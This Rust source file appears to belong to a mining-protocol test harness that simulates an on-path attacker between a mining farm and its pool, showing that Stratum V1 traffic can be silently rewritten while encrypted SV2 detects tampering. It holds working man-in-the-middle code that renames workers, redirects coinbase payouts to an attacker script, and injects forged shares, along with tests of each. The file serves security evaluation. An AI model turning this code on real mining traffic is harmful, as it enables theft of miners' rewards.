//! An attacker on the path between a farm and its pool (scenario `link.attack`): what an
//! ISP, a compromised router or a hostile network can do to the streams it carries.
//!
//! SV1 travels in plaintext, so the attacker reads and rewrites it, and the ends cannot
//! tell. SV2 is encrypted and authenticated (Noise): the same attacker can only change
//! bytes it cannot read, which the ends detect. The attacker records what it did
//! ([`Event::AttackApplied`]) and how each connection it changed ended
//! ([`Event::AttackedConnectionClosed`]); the pool's and the tap's records say whom the
//! work was credited to.

use crate::Direction;
use probe::event::{AttackAction, LinkEnd};
use probe::{mono_ns, Event, Recorder};
use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use sv1_wire::{Id, Message, Method, Notify, Submit};

pub use model::attack::Attack;

/// An attack and when it begins, after the run's window opens.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScheduledAttack {
    pub attack: Attack,
    pub begins_after: Duration,
}

/// The ids the attacker gives the requests it injects (strings no miner uses), whose
/// answers it hides.
const INJECTED_AUTHORIZE: &str = "attacker-authorize";
const INJECTED_SUBMIT: &str = "attacker-submit";

/// The attacker of one link: shared by its connections.
pub struct Attacker {
    attack: Attack,
    begins_after_ns: u64,
    window: crate::WindowClock,
    recorder: Recorder,
    connections: AtomicU64,
    /// Bytes carried since the link started, up and down (for `tamper`).
    carried: [AtomicU64; 2],
}

impl Attacker {
    /// Starts the clock of `scheduled` on `window`; records [`Event::AttackBegan`] when it
    /// begins.
    pub fn start(
        scheduled: ScheduledAttack,
        window: crate::WindowClock,
        recorder: Recorder,
    ) -> Arc<Attacker> {
        let attacker = Arc::new(Attacker {
            attack: scheduled.attack,
            begins_after_ns: scheduled.begins_after.as_nanos() as u64,
            window,
            recorder,
            connections: AtomicU64::new(0),
            carried: Default::default(),
        });
        let announcing = attacker.clone();
        tokio::spawn(async move {
            let mut window = announcing.window.clone();
            window.until(announcing.begins_after_ns).await;
            announcing.recorder.record(Event::AttackBegan {
                attack: announcing.attack.kind().to_string(),
            });
        });
        attacker
    }

    fn active(&self) -> bool {
        mono_ns() >= self.window.opens_ns() + self.begins_after_ns
    }

    /// The attacker's hold on a new connection.
    pub(crate) fn connection(self: &Arc<Self>) -> Arc<Mutex<Connection>> {
        Arc::new(Mutex::new(Connection {
            attacker: self.clone(),
            conn: self.connections.fetch_add(1, Ordering::Relaxed),
            protocol: Protocol::Unknown,
            partial: [Vec::new(), Vec::new()],
            own_worker_authorized: false,
            once_done: false,
            worker: None,
            job: None,
            extranonce1_size: 4,
            extranonce2_size: 8,
            applied: false,
            closed: false,
        }))
    }
}

/// How the attacker reads a connection, from its first bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Protocol {
    Unknown,
    /// JSON lines: SV1.
    Sv1,
    /// Anything else: for SV2, Noise's handshake and then ciphertext.
    Opaque,
}

impl Protocol {
    /// What the farm's first bytes say: SV1 opens with a JSON object, in text. SV2 opens
    /// with Noise's 64-byte ElligatorSwift key, bytes that look random: one in 256 starts
    /// with `{`, and read as SV1 it would be held whole waiting for a line's end that
    /// random bytes seldom hold, stalling the handshake until the peer gave up (a 10 s
    /// SRI handshake timeout). Text is what tells them apart: 64 random bytes are valid
    /// UTF-8 almost never.
    fn of_first(chunk: &[u8]) -> Protocol {
        let text = match std::str::from_utf8(chunk) {
            Ok(_) => true,
            // A character cut at the chunk's end is still text.
            Err(e) => e.error_len().is_none(),
        };
        match chunk.iter().find(|b| !b.is_ascii_whitespace()) {
            Some(b'{') if text => Protocol::Sv1,
            _ => Protocol::Opaque,
        }
    }
}

/// What the attacker knows of one connection and holds of its bytes.
pub(crate) struct Connection {
    attacker: Arc<Attacker>,
    conn: u64,
    protocol: Protocol,
    /// An SV1 line not yet complete, per direction (up, down).
    partial: [Vec<u8>; 2],
    own_worker_authorized: bool,
    /// Whether the connection's one change (of a stream the attacker cannot read, or its
    /// one injection) is done.
    once_done: bool,
    /// What the attacker read of an SV1 connection: the farm's worker, and its current
    /// job's id and time.
    worker: Option<String>,
    job: Option<(String, String)>,
    /// The extranonce1 and extranonce2 sizes the pool gave at subscribe.
    extranonce1_size: usize,
    extranonce2_size: usize,
    applied: bool,
    closed: bool,
}

fn index(direction: Direction) -> usize {
    match direction {
        Direction::Up => 0,
        Direction::Down => 1,
    }
}

impl Connection {
    /// The bytes to send on for `chunk`, read going `direction`.
    pub(crate) fn pass(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
        if self.protocol == Protocol::Unknown && direction == Direction::Up {
            self.protocol = Protocol::of_first(chunk);
        }
        let attacker = self.attacker.clone();
        match (&attacker.attack, self.protocol) {
            (Attack::Tamper { every_bytes }, _) => self.tamper(direction, chunk, *every_bytes),
            (attack, Protocol::Sv1) => self.sv1_lines(direction, chunk, attack),
            (Attack::HijackWorker { .. }, _) => {
                self.change_ciphertext(Direction::Up, direction, chunk)
            }
            (Attack::HijackJob { .. }, _) => {
                self.change_ciphertext(Direction::Down, direction, chunk)
            }
            (Attack::Inject, _) => self.inject_frame(direction, chunk),
        }
    }

    fn record(&mut self, direction: Direction, action: AttackAction) {
        self.record_job(direction, action, None);
    }

    fn record_job(&mut self, direction: Direction, action: AttackAction, job_id: Option<String>) {
        self.applied = true;
        self.attacker.recorder.record(Event::AttackApplied {
            conn: self.conn,
            up: direction == Direction::Up,
            action,
            job_id,
        });
    }

    fn tamper(&mut self, direction: Direction, chunk: &[u8], every_bytes: u64) -> Vec<u8> {
        let carried = &self.attacker.carried[index(direction)];
        let first = carried.fetch_add(chunk.len() as u64, Ordering::Relaxed);
        let mut out = chunk.to_vec();
        if !self.attacker.active() {
            return out;
        }
        let every = every_bytes.max(1);
        // The stream's byte numbers every_bytes, 2 * every_bytes, ... that fall in this chunk.
        let mut next = (first / every + 1) * every;
        while next <= first + chunk.len() as u64 {
            out[(next - first - 1) as usize] ^= 0x01;
            self.record(direction, AttackAction::ByteFlipped);
            next += every;
        }
        out
    }

    /// SV2's stream read by an attacker who cannot decrypt it: its rewrite (of the
    /// channel's identity going up, of a job coming down) changes a byte of the first chunk
    /// going `rewritten` once the attack is on.
    fn change_ciphertext(
        &mut self,
        rewritten: Direction,
        direction: Direction,
        chunk: &[u8],
    ) -> Vec<u8> {
        let mut out = chunk.to_vec();
        if direction == rewritten && !self.once_done && !out.is_empty() && self.attacker.active() {
            let middle = out.len() / 2;
            out[middle] ^= 0xff;
            self.once_done = true;
            self.record(direction, AttackAction::CiphertextChanged);
        }
        out
    }

    /// A stream the attacker cannot read, with a forged frame of its own before the first
    /// chunk the farm sends once the attack is on: 6 bytes of header and 16 of MAC, what
    /// the smallest encrypted SV2 frame takes, of bytes no key made.
    fn inject_frame(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
        if direction == Direction::Down || self.once_done || !self.attacker.active() {
            return chunk.to_vec();
        }
        self.once_done = true;
        let mut out: Vec<u8> = (0..22).map(|_| rand::random::<u8>()).collect();
        out.extend_from_slice(chunk);
        self.record(direction, AttackAction::FrameInjected);
        out
    }

    /// SV1 read line by line: complete lines go on (changed once the attack is on), a
    /// partial one waits for its end. The attacker reads every line for the farm's worker
    /// and current job, and hides the answers to what it injected.
    fn sv1_lines(&mut self, direction: Direction, chunk: &[u8], attack: &Attack) -> Vec<u8> {
        let mut held = std::mem::take(&mut self.partial[index(direction)]);
        held.extend_from_slice(chunk);
        let complete = held.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
        self.partial[index(direction)] = held.split_off(complete);
        let active = self.attacker.active();
        let mut out = Vec::with_capacity(held.len() + 256);
        for line in held.split_inclusive(|&b| b == b'\n') {
            let message = Message::parse(line).ok();
            if let Some(m) = &message {
                self.learn(direction, m);
            }
            match (direction, active, attack) {
                (_, false, _) => out.extend_from_slice(line),
                (Direction::Down, true, Attack::HijackJob { payout }) => {
                    self.rewrite_job(message, line, payout, &mut out)
                }
                (Direction::Up, true, Attack::HijackJob { .. }) => out.extend_from_slice(line),
                (Direction::Down, true, _) => {
                    if !message.as_ref().is_some_and(is_answer_to_injected) {
                        out.extend_from_slice(line);
                    }
                }
                (Direction::Up, true, Attack::HijackWorker { account }) => {
                    self.rewrite_request(message, line, account, &mut out)
                }
                (Direction::Up, true, _) => {
                    self.inject_submit(&mut out);
                    out.extend_from_slice(line);
                }
            }
        }
        out
    }

    /// The farm's worker (from its authorization) and its current job (from the pool's
    /// notifications), as the attacker reads them.
    fn learn(&mut self, direction: Direction, message: &Message) {
        match (direction, message) {
            (
                Direction::Up,
                Message::Request {
                    method: Method::Authorize { worker, .. },
                    ..
                },
            ) => self.worker = Some(worker.clone()),
            (
                Direction::Down,
                Message::Request {
                    method: Method::Notify(notify),
                    ..
                },
            ) => self.job = Some((notify.job_id.clone(), notify.ntime.clone())),
            // The answer to mining.subscribe: [subscriptions, extranonce1, extranonce2 size].
            (Direction::Down, Message::Response(answer)) => {
                let subscribed = answer.subscribed();
                if let Some(s) = subscribed.filter(|s| (1..=32).contains(&s.extranonce2_size)) {
                    self.extranonce1_size = s.extranonce1.len() / 2;
                    self.extranonce2_size = s.extranonce2_size as usize;
                }
            }
            _ => {}
        }
    }

    /// Once a connection's worker and job are known: a share the farm never found, in its
    /// worker's name, before the farm's next request.
    fn inject_submit(&mut self, out: &mut Vec<u8>) {
        let (Some(worker), Some((job_id, ntime)), false) =
            (&self.worker, &self.job, self.once_done)
        else {
            return;
        };
        let forged = Submit {
            worker: worker.clone(),
            job_id: job_id.clone(),
            extranonce2: "00".repeat(self.extranonce2_size),
            ntime: ntime.clone(),
            nonce: "00000000".into(),
            version_bits: None,
        };
        out.extend(request(INJECTED_SUBMIT.into(), Method::Submit(forged)));
        self.once_done = true;
        self.record(Direction::Up, AttackAction::SubmitInjected);
    }

    /// A farm's request, with the attacker's worker in place of the farm's.
    fn rewrite_request(
        &mut self,
        message: Option<Message>,
        line: &[u8],
        account: &str,
        out: &mut Vec<u8>,
    ) {
        let worker = account.to_string();
        let (id, action, method) = match message {
            Some(Message::Request {
                id,
                method: Method::Authorize { password, .. },
            }) => (
                id,
                AttackAction::AuthorizeRewritten,
                Method::Authorize { worker, password },
            ),
            Some(Message::Request {
                id,
                method: Method::Submit(submit),
            }) => (
                id,
                AttackAction::SubmitRewritten,
                Method::Submit(Submit { worker, ..submit }),
            ),
            _ => {
                out.extend_from_slice(line);
                return;
            }
        };
        if action == AttackAction::SubmitRewritten && !self.own_worker_authorized {
            let authorize = Method::Authorize {
                worker: account.to_string(),
                password: Some("x".into()),
            };
            out.extend(request(INJECTED_AUTHORIZE.into(), authorize));
            self.record(Direction::Up, AttackAction::OwnWorkerAuthorized);
        }
        self.own_worker_authorized = true;
        out.extend(request(id, method));
        self.record(Direction::Up, action);
    }

    /// A pool's line, and a `mining.notify` with its coinbase paying `payout` instead.
    fn rewrite_job(
        &mut self,
        message: Option<Message>,
        line: &[u8],
        payout: &[u8],
        out: &mut Vec<u8>,
    ) {
        let Some(Message::Request {
            id,
            method: Method::Notify(notify),
        }) = message
        else {
            out.extend_from_slice(line);
            return;
        };
        let extranonce = self.extranonce1_size + self.extranonce2_size;
        let coinb = |h: &str| hex::decode(h).ok();
        let redirected = (coinb(&notify.coinb1).zip(coinb(&notify.coinb2)))
            .and_then(|(c1, c2)| redirect_payout(&c1, &c2, extranonce, payout));
        let Some(coinb2) = redirected else {
            tracing::warn!(
                conn = self.conn,
                "a mining.notify whose coinbase does not parse passes unchanged"
            );
            out.extend_from_slice(line);
            return;
        };
        let job_id = Some(notify.job_id.clone());
        let notify = Notify {
            coinb2: hex::encode(coinb2),
            ..notify
        };
        out.extend(request(id, Method::Notify(notify)));
        self.record_job(Direction::Down, AttackAction::JobRewritten, job_id);
    }

    /// Records how a connection the attacker changed ended: `by` the end that closed
    /// first, at `t_ns`.
    pub(crate) fn closed(&mut self, by: LinkEnd, t_ns: u64) {
        if self.applied && !self.closed {
            self.closed = true;
            self.attacker.recorder.record_at(
                t_ns,
                Event::AttackedConnectionClosed {
                    conn: self.conn,
                    by,
                },
            );
        }
    }
}

/// The second part of a coinbase (`coinb2` of `mining.notify`) with every output that pays
/// (above 0 sats: a witness commitment pays nothing) paying `script` instead; `None` when
/// it does not parse as the rest of the coinbase whose first part is `coinb1`, with
/// `extranonce` bytes between them.
fn redirect_payout(
    coinb1: &[u8],
    coinb2: &[u8],
    extranonce: usize,
    script: &[u8],
) -> Option<Vec<u8>> {
    // Version (4), one input (1), its outpoint (36), then the scriptSig's length.
    let (script_sig, size) = varint(coinb1.get(41..)?)?;
    let in_coinb1 = coinb1.len().checked_sub(41 + size)?;
    let rest = usize::try_from(script_sig)
        .ok()?
        .checked_sub(in_coinb1 + extranonce)?;
    // The scriptSig's rest and the input's sequence, then the outputs.
    let mut at = rest + 4;
    let (outputs, size) = varint(coinb2.get(at..)?)?;
    at += size;
    let mut out = coinb2.get(..at)?.to_vec();
    for _ in 0..outputs {
        let value = coinb2.get(at..at + 8)?;
        let (length, size) = varint(coinb2.get(at + 8..)?)?;
        let end = (at + 8 + size).checked_add(usize::try_from(length).ok()?)?;
        let own = coinb2.get(at + 8..end)?;
        out.extend_from_slice(value);
        if u64::from_le_bytes(value.try_into().ok()?) > 0 {
            push_varint(&mut out, script.len() as u64);
            out.extend_from_slice(script);
        } else {
            out.extend_from_slice(own);
        }
        at = end;
    }
    // The lock time ends it.
    let lock_time = coinb2.get(at..).filter(|rest| rest.len() == 4)?;
    out.extend_from_slice(lock_time);
    Some(out)
}

/// A Bitcoin compact size at the start of `bytes`: its value and its length.
fn varint(bytes: &[u8]) -> Option<(u64, usize)> {
    let wide = |n: usize| {
        let mut value = [0u8; 8];
        value[..n].copy_from_slice(bytes.get(1..1 + n)?);
        Some((u64::from_le_bytes(value), 1 + n))
    };
    match *bytes.first()? {
        0xfd => wide(2),
        0xfe => wide(4),
        0xff => wide(8),
        b => Some((u64::from(b), 1)),
    }
}

fn push_varint(out: &mut Vec<u8>, n: u64) {
    match n {
        0..=0xfc => out.push(n as u8),
        0xfd..=0xffff => {
            out.push(0xfd);
            out.extend_from_slice(&(n as u16).to_le_bytes());
        }
        0x1_0000..=0xffff_ffff => {
            out.push(0xfe);
            out.extend_from_slice(&(n as u32).to_le_bytes());
        }
        _ => {
            out.push(0xff);
            out.extend_from_slice(&n.to_le_bytes());
        }
    }
}

/// The pool's answer to a request the attacker injected, which the miner never made.
fn is_answer_to_injected(message: &Message) -> bool {
    let Message::Response(answer) = message else {
        return false;
    };
    [INJECTED_AUTHORIZE, INJECTED_SUBMIT]
        .map(Id::from)
        .contains(&answer.id)
}

/// A request the attacker writes, as its line: only what it forges or changes is
/// written anew, every other line passes as it came.
fn request(id: Id, method: Method) -> Vec<u8> {
    Message::Request { id, method }.to_line()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    fn connection(attack: Attack, begins_after: Duration) -> Connection {
        let attacker = Attacker {
            attack,
            begins_after_ns: begins_after.as_nanos() as u64,
            window: crate::WindowClock::fixed(mono_ns()),
            recorder: Recorder::disabled(),
            connections: AtomicU64::new(0),
            carried: Default::default(),
        };
        Arc::into_inner(Arc::new(attacker).connection())
            .unwrap()
            .into_inner()
            .unwrap()
    }

    fn hijack() -> Attack {
        Attack::HijackWorker {
            account: "thief.rig".into(),
        }
    }

    fn text(bytes: Vec<u8>) -> String {
        String::from_utf8(bytes).unwrap()
    }

    /// A coinbase as a pool splits it around the extranonce (4 + 8 bytes): its payout
    /// (50 BTC to a P2WPKH script) and its witness commitment (0 sats).
    fn split_coinbase() -> (Vec<u8>, Vec<u8>) {
        let tag = b"/pool/";
        let script_sig_len = 4 + tag.len() + 12;
        let mut coinb1 = hex::decode("0100000001").unwrap();
        coinb1.extend([0u8; 32]);
        coinb1.extend([0xff; 4]);
        coinb1.push(script_sig_len as u8);
        coinb1.extend([0x03, 0x10, 0x27, 0x00]);
        coinb1.extend(tag);
        let mut coinb2 = vec![0xff; 4];
        coinb2.push(2);
        coinb2.extend(5_000_000_000u64.to_le_bytes());
        coinb2.push(22);
        coinb2.extend([0x00, 0x14]);
        coinb2.extend([0x11; 20]);
        coinb2.extend(0u64.to_le_bytes());
        coinb2.push(38);
        coinb2.extend(hex::decode("6a24aa21a9ed").unwrap());
        coinb2.extend([0x22; 32]);
        coinb2.extend([0u8; 4]);
        (coinb1, coinb2)
    }

    #[test]
    fn a_job_hijack_redirects_the_paying_outputs_and_keeps_the_commitment() {
        let (coinb1, coinb2) = split_coinbase();
        // A 40-byte script, longer than the pool's: the output's length changes with it.
        let payout = vec![0x51; 40];
        let redirected = redirect_payout(&coinb1, &coinb2, 12, &payout).unwrap();
        let mut expected = coinb2[..5].to_vec();
        expected.extend(5_000_000_000u64.to_le_bytes());
        expected.push(40);
        expected.extend(&payout);
        expected.extend(&coinb2[5 + 8 + 1 + 22..]);
        assert_eq!(redirected, expected);
        // With another extranonce size the outputs are not where they would be: refused.
        assert_eq!(redirect_payout(&coinb1, &coinb2, 11, &payout), None);
        assert_eq!(redirect_payout(&coinb1, &coinb2[..30], 12, &payout), None);
        assert_eq!(varint(&[0xfd, 0x01, 0x02]), Some((0x0201, 3)));
        let mut wide = Vec::new();
        push_varint(&mut wide, 0x0201);
        assert_eq!(wide, [0xfd, 0x01, 0x02]);
    }

    #[test]
    fn a_job_hijack_rewrites_each_notify_and_leaves_the_farms_requests() {
        let payout = vec![0x00, 0x14, 0xee, 0xee];
        let mut c = connection(
            Attack::HijackJob {
                payout: payout.clone(),
            },
            Duration::ZERO,
        );
        let subscribe = br#"{"id":1,"method":"mining.subscribe","params":[]}"#.to_vec();
        let up = [subscribe, b"\n".to_vec()].concat();
        assert_eq!(c.pass(Direction::Up, &up), up, "the farm's requests pass");
        let answer = br#"{"id":1,"result":[[],"0a0b0c0d",8],"error":null}"#;
        c.pass(Direction::Down, &[&answer[..], b"\n"].concat());
        let (coinb1, coinb2) = split_coinbase();
        let notify = serde_json::json!({"id": null, "method": "mining.notify", "params": [
            "j7", "00", hex::encode(&coinb1), hex::encode(&coinb2), [], "20000000", "1d00ffff", "5f5e1000", true
        ]});
        let out = text(c.pass(Direction::Down, format!("{notify}\n").as_bytes()));
        let got: Value = serde_json::from_str(out.trim_end()).unwrap();
        let expected = redirect_payout(&coinb1, &coinb2, 12, &payout).unwrap();
        assert_eq!(got["params"][3], hex::encode(&expected));
        assert_eq!(got["params"][0], "j7");
        assert!(c.applied);
        // Only coinb2 changes, and any other line of the pool's passes byte for byte.
        let only_coinb2 =
            format!("{notify}\n").replace(&hex::encode(&coinb2), &hex::encode(&expected));
        assert_eq!(out, only_coinb2);
        let spaced = b"{\"params\": [2], \"id\": null, \"method\": \"mining.set_difficulty\"}\n";
        assert_eq!(c.pass(Direction::Down, spaced), spaced.to_vec());
        // A stream it cannot read: the pool's first chunk is changed, the farm's is not.
        let mut opaque = connection(Attack::HijackJob { payout }, Duration::ZERO);
        assert_eq!(opaque.pass(Direction::Up, &[1, 2, 3]), vec![1, 2, 3]);
        assert_ne!(opaque.pass(Direction::Down, &[1, 2, 3]), vec![1, 2, 3]);
        assert_eq!(opaque.pass(Direction::Down, &[1, 2, 3]), vec![1, 2, 3]);
    }

    #[test]
    fn a_hijack_renames_the_worker_and_authorizes_its_own_on_a_connection_already_open() {
        let mut c = connection(hijack(), Duration::ZERO);
        let submit =
            br#"{"id":7,"method":"mining.submit","params":["farm.1","j1","00","5f","01"]}"#;
        let mut line = submit.to_vec();
        line.push(b'\n');
        // Split across two reads: nothing goes on before the line is whole.
        assert!(c.pass(Direction::Up, &line[..20]).is_empty());
        let out = text(c.pass(Direction::Up, &line[20..]));
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines.len(), 2, "{out}");
        assert_eq!(lines[0]["method"], "mining.authorize");
        assert_eq!(lines[0]["params"][0], "thief.rig");
        assert_eq!(lines[1]["id"], 7);
        assert_eq!(lines[1]["params"][0], "thief.rig");
        assert_eq!(lines[1]["params"][1], "j1");
        // The pool's answer to the injected authorization never reaches the miner; the
        // answer to the share does.
        let answers = format!(
            "{{\"id\":\"{INJECTED_AUTHORIZE}\",\"result\":true,\"error\":null}}\n{{\"id\":7,\"result\":true,\"error\":null}}\n"
        );
        let down = text(c.pass(Direction::Down, answers.as_bytes()));
        assert_eq!(down, "{\"id\":7,\"result\":true,\"error\":null}\n");
        // The next share is renamed without a second authorization.
        let out = text(c.pass(Direction::Up, &line));
        assert_eq!(out.lines().count(), 1);
    }

    #[test]
    fn before_the_attack_begins_the_stream_passes_unchanged() {
        let mut c = connection(hijack(), Duration::from_secs(3600));
        let line = b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"farm.1\",\"x\"]}\n";
        assert_eq!(c.pass(Direction::Up, line), line.to_vec());
        assert!(!c.applied);
    }

    /// An SV2 handshake whose random first byte is `{` (one in 256): it is not SV1, and
    /// it passes at once rather than waiting for a line's end. It stalled a translator's
    /// handshake for its whole 10 s timeout in a clean-clone run (the link carried no
    /// byte of it).
    #[test]
    fn a_handshake_that_starts_with_a_brace_is_not_held_as_an_sv1_line() {
        let mut c = connection(hijack(), Duration::from_secs(3600));
        let mut handshake = [0xc3u8; 64];
        handshake[0] = b'{';
        handshake[1] = 0xff;
        assert_eq!(c.pass(Direction::Up, &handshake), handshake.to_vec());
        assert_eq!(c.protocol, Protocol::Opaque);
        // SV1 text stays SV1, a character cut at the chunk's end included.
        let mut c = connection(hijack(), Duration::from_secs(3600));
        let cut = "{\"id\":1,\"method\":\"mining.authorize\",\"params\":[\"f\u{e9}rme\",\"x\"]}\n";
        let bytes = &cut.as_bytes()[..cut.find('\u{e9}').unwrap() + 1];
        assert!(
            c.pass(Direction::Up, bytes).is_empty(),
            "a partial line waits"
        );
        assert_eq!(c.protocol, Protocol::Sv1);
    }

    #[test]
    fn a_hijack_of_a_stream_it_cannot_read_changes_one_byte_of_the_first_chunk_only() {
        let mut c = connection(hijack(), Duration::ZERO);
        let handshake = [0x5au8; 64];
        let out = c.pass(Direction::Up, &handshake);
        let changed: Vec<usize> = (0..64).filter(|&i| out[i] != handshake[i]).collect();
        assert_eq!(changed, vec![32]);
        assert_eq!(c.pass(Direction::Up, &handshake), handshake.to_vec());
        assert_eq!(c.pass(Direction::Down, &handshake), handshake.to_vec());
    }

    #[test]
    fn an_injection_forges_one_share_in_the_farms_name_on_its_job_and_hides_the_answer() {
        let mut c = connection(Attack::Inject, Duration::ZERO);
        let authorize =
            b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"farm.1\",\"x\"]}\n";
        // Before a job is known, nothing can be forged.
        assert_eq!(c.pass(Direction::Up, authorize), authorize.to_vec());
        let notify = b"{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"j9\",\"00\",\"01\",\"02\",[],\"20000000\",\"1d00ffff\",\"6553f100\",true]}\n";
        assert_eq!(c.pass(Direction::Down, notify), notify.to_vec());
        let submit = b"{\"id\":5,\"method\":\"mining.submit\",\"params\":[\"farm.1\",\"j9\",\"00\",\"6553f100\",\"01\"]}\n";
        let out = text(c.pass(Direction::Up, submit));
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines.len(), 2, "{out}");
        assert_eq!(lines[0]["id"], INJECTED_SUBMIT);
        assert_eq!(lines[0]["params"][0], "farm.1");
        assert_eq!(lines[0]["params"][1], "j9");
        assert_eq!(lines[0]["params"][3], "6553f100");
        assert_eq!(lines[1]["id"], 5);
        // Once a connection.
        assert_eq!(c.pass(Direction::Up, submit), submit.to_vec());
        let answer = format!("{{\"id\":\"{INJECTED_SUBMIT}\",\"result\":null,\"error\":[23,\"Low difficulty share\",null]}}\n");
        assert!(c.pass(Direction::Down, answer.as_bytes()).is_empty());
    }

    #[test]
    fn an_injection_into_a_stream_it_cannot_read_is_a_frame_of_its_own_bytes_once() {
        let mut c = connection(Attack::Inject, Duration::ZERO);
        let frame = [0x77u8; 40];
        let out = c.pass(Direction::Up, &frame);
        assert_eq!(out.len(), 62);
        assert_eq!(&out[22..], &frame[..]);
        assert_eq!(c.pass(Direction::Up, &frame), frame.to_vec());
    }

    #[test]
    fn tamper_flips_one_bit_every_n_bytes_across_chunks() {
        let mut c = connection(Attack::Tamper { every_bytes: 10 }, Duration::ZERO);
        let zeros = [0u8; 7];
        // Bytes 1..=7, 8..=14, 15..=21: the 10th and the 20th flip.
        let a = c.pass(Direction::Up, &zeros);
        let b = c.pass(Direction::Up, &zeros);
        let d = c.pass(Direction::Up, &zeros);
        assert_eq!(a, zeros.to_vec());
        assert_eq!(b, vec![0, 0, 1, 0, 0, 0, 0]);
        assert_eq!(d, vec![0, 0, 0, 0, 0, 1, 0]);
        // Each direction counts its own bytes.
        assert_eq!(c.pass(Direction::Down, &zeros), zeros.to_vec());
    }
}
